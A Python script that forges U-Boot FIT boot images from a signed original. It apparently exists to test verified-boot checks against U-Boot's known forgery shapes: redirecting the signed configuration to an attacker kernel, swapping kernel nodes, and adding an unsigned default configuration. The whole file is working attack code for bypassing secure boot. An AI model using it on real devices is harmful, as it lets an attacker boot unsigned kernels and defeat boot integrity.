#!/usr/bin/python3
"""Forge a FIT from a signed one, keeping its signature, in the shapes of
U-Boot's own forgery tests (test/py/tests/vboot_forge.py): what an
attacker who can write the boot partition, but has no key, can make.

usage: forge-fit.py SHAPE SIGNED_FIT ATTACK_IMAGE OUT

SHAPE:
  conf-points-elsewhere  a new image node kernel-attack (ATTACK_IMAGE,
                         with a correct sha256 hash node), and the signed
                         configuration's kernel property pointed at it
  swap-kernel-node       the signed kernel node renamed kernel-signed, a
                         new node named kernel carrying ATTACK_IMAGE with a
                         correct hash: the configuration, untouched, now
                         names the attacker's kernel
  unsigned-default       a second, unsigned configuration conf-attack
                         (ATTACK_IMAGE, the signed initramfs) made the
                         default; the signed one stays as it was

Edited in place with libfdt (Debian's python3-libfdt), as the forgery
tests do: what a shape does not touch stays byte for byte, the string
table included, so the signed configuration itself still verifies.
"""
import hashlib
import sys

import libfdt

CONF = 'conf-normal'


def add_kernel(fdt, name, image, like='/images/kernel'):
    """A kernel node @name carrying @image, otherwise as the signed kernel
    node @like is (its type, arch, os, compression, load and entry: the
    attacker's kernel goes where the signed one would)"""
    signed = fdt.path_offset(like)
    strings = {p: fdt.getprop(signed, p).as_str()
               for p in ('type', 'arch', 'os', 'compression')}
    words = {p: fdt.getprop(signed, p).as_uint32() for p in ('load', 'entry')}
    fdt.add_subnode(fdt.path_offset('/images'), name)
    fdt.setprop_str(fdt.path_offset(f'/images/{name}'), 'description',
                    'attacker kernel')
    fdt.setprop(fdt.path_offset(f'/images/{name}'), 'data', image)
    for prop, value in strings.items():
        fdt.setprop_str(fdt.path_offset(f'/images/{name}'), prop, value)
    for prop, value in words.items():
        fdt.setprop_u32(fdt.path_offset(f'/images/{name}'), prop, value)
    fdt.add_subnode(fdt.path_offset(f'/images/{name}'), 'hash')
    fdt.setprop(fdt.path_offset(f'/images/{name}/hash'), 'value',
                hashlib.sha256(image).digest())
    fdt.setprop_str(fdt.path_offset(f'/images/{name}/hash'), 'algo', 'sha256')


def main():
    if len(sys.argv) != 5:
        sys.exit(__doc__.strip().splitlines()[4])
    shape, signed, attack, out = sys.argv[1:]
    image = open(attack, 'rb').read()
    blob = open(signed, 'rb').read()
    fdt = libfdt.Fdt(blob)
    fdt.resize(len(blob) + len(image) + 65536)
    conf = f'/configurations/{CONF}'
    fdt.path_offset(conf)
    if shape == 'conf-points-elsewhere':
        add_kernel(fdt, 'kernel-attack', image)
        fdt.setprop_str(fdt.path_offset(conf), 'kernel', 'kernel-attack')
    elif shape == 'swap-kernel-node':
        fdt.set_name(fdt.path_offset('/images/kernel'), 'kernel-signed')
        add_kernel(fdt, 'kernel', image, like='/images/kernel-signed')
    elif shape == 'unsigned-default':
        compatible = fdt.getprop(fdt.path_offset(conf), 'compatible').as_str()
        add_kernel(fdt, 'kernel-attack', image)
        fdt.add_subnode(fdt.path_offset('/configurations'), 'conf-attack')
        for prop, value in (('description', 'attacker, unsigned'),
                            ('kernel', 'kernel-attack'),
                            ('ramdisk', 'initramfs'),
                            ('compatible', compatible)):
            fdt.setprop_str(fdt.path_offset('/configurations/conf-attack'),
                            prop, value)
        fdt.setprop_str(fdt.path_offset('/configurations'), 'default',
                        'conf-attack')
    else:
        sys.exit(f'forge-fit.py: unknown shape {shape}')
    fdt.pack()
    open(out, 'wb').write(fdt.as_bytearray())
    print(f'{out}: {shape}, forged from {signed} with {attack}')


if __name__ == '__main__':
    main()
